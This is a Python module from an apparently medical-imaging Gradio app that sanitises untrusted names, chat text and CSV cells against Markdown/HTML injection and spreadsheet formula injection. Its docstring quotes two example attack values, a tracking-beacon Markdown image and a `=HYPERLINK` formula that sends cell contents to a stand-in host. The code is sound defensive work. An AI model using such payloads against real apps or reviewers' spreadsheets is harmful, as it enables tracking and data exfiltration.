"""Text from strangers made safe to show in the app's Markdown (status line, chat, 3-D report).

Image and label names come from files (a DICOM's SeriesDescription, a zip's or a bundle's
names) and a shared bundle carries someone else's chat. Gradio's sanitizer strips scripts but
keeps `<img>` tags, Markdown images and links: a DICOM whose description was
`![](http://host/beacon.png)` made every browser that opened it fetch that URL, and showed a
link of the sender's choosing as part of the app's own message. Two rules, both idempotent
(a reopened bundle is saved and reopened again):

- `plain_name`: a name is one line of plain text. Control and format characters (bidi
  overrides, zero-width, NUL, escape sequences) go, whitespace collapses, and the characters that
  start HTML, links, images and code (`< > [ ] ` \\`) become look-alikes that do not.
- `inert_markdown`: a stored message keeps its emphasis and tables, while HTML (other than the
  app's own `<sub>` note) and every link or image bracket become character references, which
  render as the same characters and can never open a tag or a link.

CSV files go to spreadsheets, where a cell starting with `=`, `+`, `-` or `@` is a formula:
a public user's flag comment `=HYPERLINK("http://host/?"&A1, "open")` ran in the reviewer's
spreadsheet. `spreadsheet_row` quotes such text cells (OWASP's advice); numbers stay numbers.
"""

from __future__ import annotations

import re
import unicodedata

__all__ = ["inert_markdown", "plain_name", "spreadsheet_row"]

_LOOKALIKES = str.maketrans({"<": "‹", ">": "›", "[": "(", "]": ")", "`": "'", "\\": "/"})
# Cc control, Cf format (bidi overrides, zero-width), Co private use, Cs surrogates, Cn
# unassigned; Zl/Zp line and paragraph separators.
_DROPPED = frozenset({"Cc", "Cf", "Co", "Cs", "Cn", "Zl", "Zp"})
_APP_TAGS = re.compile(r"<(/?sub)>")
_ACTIVE = {"<": "&lt;", ">": "&gt;", "[": "&#91;", "]": "&#93;"}


def plain_name(text: str, limit: int = 255, fallback: str = "image") -> str:
    """`text` as one line of inert plain text of at most `limit` characters."""
    kept = "".join(
        " " if c.isspace() else c
        for c in text
        if c.isspace() or unicodedata.category(c) not in _DROPPED
    )
    return " ".join(kept.translate(_LOOKALIKES).split())[:limit].rstrip() or fallback


def inert_markdown(text: str) -> str:
    """`text` rendered as before, but no tag, link or image in it can be opened."""
    parts = _APP_TAGS.split(text)  # odd items: "sub" / "/sub", the app's own tags
    return "".join(
        f"<{part}>" if i % 2 else "".join(_ACTIVE.get(c, c) for c in part)
        for i, part in enumerate(parts)
    )


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def spreadsheet_row(cells: list[object]) -> list[object]:
    """`cells` for a CSV row: text that a spreadsheet would run as a formula starts with `'`
    (a number written as text, such as a negative mean in HU, is left as it is)."""
    return [f"'{c}" if _is_formula(c) else c for c in cells]


def _is_formula(cell: object) -> bool:
    if not isinstance(cell, str) or not cell.lstrip(" ").startswith(_FORMULA_START):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False
